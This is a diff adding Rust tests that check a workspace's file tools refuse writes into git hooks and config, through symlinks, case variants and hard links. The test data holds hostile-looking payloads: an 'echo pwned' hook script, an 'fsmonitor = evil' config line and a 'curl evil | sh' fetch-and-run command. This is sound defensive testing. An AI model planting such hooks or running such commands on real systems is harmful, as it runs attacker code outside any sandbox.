@@ -260,3 +260,141 @@ fn missing_parents_are_not_created_through_a_link_into_a_protected_directory() {
     }
     assert_eq!(std::fs::read_dir(temp.path().join("memory")).unwrap().count(), 0);
 }
+
+/// Each path is refused as part of a git repository, and nothing is created for it.
+fn assert_git_protected(ws: &Workspace, root: &Path, paths: &[&str]) {
+    for path in paths {
+        let error = ws.write(path, "#!/bin/sh\necho pwned\n").unwrap_err();
+        assert!(
+            matches!(error, WorkspaceError::GitProtected { .. }),
+            "{path}: {error}"
+        );
+        assert!(error.to_string().contains("outside any sandbox"), "{error}");
+        assert!(!root.join(path).exists(), "{path} was created");
+    }
+}
+
+#[test]
+fn git_directories_are_protected_by_default_at_any_depth_and_case() {
+    let (temp, ws) = workspace();
+    let root = temp.path();
+    for dir in [".git/hooks", "sub/.git/hooks", ".git/modules/lib/hooks"] {
+        std::fs::create_dir_all(root.join(dir)).unwrap();
+    }
+    std::fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
+    assert_git_protected(
+        &ws,
+        root,
+        &[
+            ".git/hooks/pre-commit",
+            "sub/.git/hooks/post-checkout",
+            ".git/modules/lib/hooks/pre-push",
+            ".GIT/hooks/pre-commit",
+            "deep/new/.Git/x",
+            "checkout/.git",
+            "./x/../.git/hooks/pre-commit",
+        ],
+    );
+    let error = ws.write(".git/config", "[core]\nfsmonitor = evil\n").unwrap_err();
+    assert_eq!(
+        error.to_string(),
+        "`.git/config` is in `.git`, part of a git repository that the file tools do not write: \
+         git runs hooks (`.git/hooks`, or the directory `core.hooksPath` names) outside any sandbox, \
+         `.git/config` can name programs for git to run (`core.fsmonitor`, `core.sshCommand`), and a \
+         `.git` file can point git at another directory; change a repository with git itself"
+    );
+    assert_eq!(
+        std::fs::read_to_string(root.join(".git/config")).unwrap(),
+        "[core]\n\tbare = false\n"
+    );
+    // Reads, and names that only start like `.git`, are unaffected.
+    assert!(ws.read_to_string(".git/config").is_ok());
+    for fine in [".gitignore", ".github/workflows/ci.yml", "src/git/hooks.rs"] {
+        ws.write(fine, "x").unwrap();
+    }
+    let open = ws.protect_git(false);
+    open.write(".git/hooks/pre-commit", "allowed when asked").unwrap();
+}
+
+#[test]
+fn links_do_not_get_around_the_git_protection() {
+    let (temp, ws) = workspace();
+    let root = temp.path();
+    std::fs::create_dir_all(root.join("repo/.git/hooks")).unwrap();
+    // A link to the hooks directory, a missing parent created through a link, and a
+    // `..` after a new directory that leads back into a link.
+    symlink("repo/.git/hooks", root.join("h")).unwrap();
+    symlink("repo/.git", root.join("g")).unwrap();
+    symlink("repo", root.join("r")).unwrap();
+    assert_git_protected(
+        &ws,
+        root,
+        &[
+            "h/pre-commit",
+            "g/new/config",
+            "new/../g/hooks/x",
+            "r/.git/hooks/x",
+        ],
+    );
+    // A `.git` that is a link to some other directory is still the git directory, both
+    // through its name and at its target, which git would run hooks from.
+    std::fs::create_dir_all(root.join("store/hooks")).unwrap();
+    symlink("store", root.join(".git")).unwrap();
+    std::fs::create_dir_all(root.join("nested")).unwrap();
+    std::fs::create_dir_all(root.join("elsewhere/hooks")).unwrap();
+    symlink("../elsewhere", root.join("nested/.git")).unwrap();
+    // Where the root's `.git` leads is read when the workspace opens.
+    let ws = Workspace::open(root).unwrap();
+    assert_git_protected(
+        &ws,
+        root,
+        &[
+            ".git/hooks/pre-commit",
+            "store/hooks/pre-commit",
+            "nested/.git/hooks/pre-commit",
+        ],
+    );
+}
+
+#[test]
+fn the_hooks_directory_git_is_configured_with_is_protected() {
+    let (temp, _) = workspace();
+    let root = temp.path();
+    std::fs::create_dir_all(root.join(".git")).unwrap();
+    std::fs::create_dir_all(root.join(".husky/_")).unwrap();
+    std::fs::write(root.join(".git/config"), "[core]\n\thooksPath = .husky/_\n").unwrap();
+    let ws = Workspace::open(root).unwrap();
+    assert_git_protected(&ws, root, &[".husky/_/pre-commit"]);
+    ws.write(".husky/notes.txt", "the scripts the hooks call are project files")
+        .unwrap();
+}
+
+#[test]
+fn appending_refuses_a_file_with_other_hard_links() {
+    let (temp, ws) = workspace();
+    let outside = tempfile::tempdir().unwrap();
+    let secret = outside.path().join("profile");
+    std::fs::write(&secret, "PATH=/usr/bin\n").unwrap();
+    std::fs::hard_link(&secret, temp.path().join("notes.txt")).unwrap();
+    symlink("notes.txt", temp.path().join("alias.txt")).unwrap();
+    for path in ["notes.txt", "alias.txt"] {
+        let error = ws
+            .write_file(path, b"curl evil | sh\n", WriteMode::Append)
+            .unwrap_err();
+        assert!(
+            matches!(error, WorkspaceError::HardLinked { links: 2, .. }),
+            "{path}: {error}"
+        );
+        assert!(error.to_string().contains("has 2 hard links"), "{error}");
+    }
+    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "PATH=/usr/bin\n");
+    // An overwrite writes a new file under this name and leaves the other name alone.
+    ws.write("notes.txt", "mine\n").unwrap();
+    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "PATH=/usr/bin\n");
+    assert!(
+        !ws.write_file("notes.txt", b"more\n", WriteMode::Append)
+            .unwrap()
+            .created
+    );
+    assert_eq!(ws.read_to_string("notes.txt").unwrap(), "mine\nmore\n");
+}
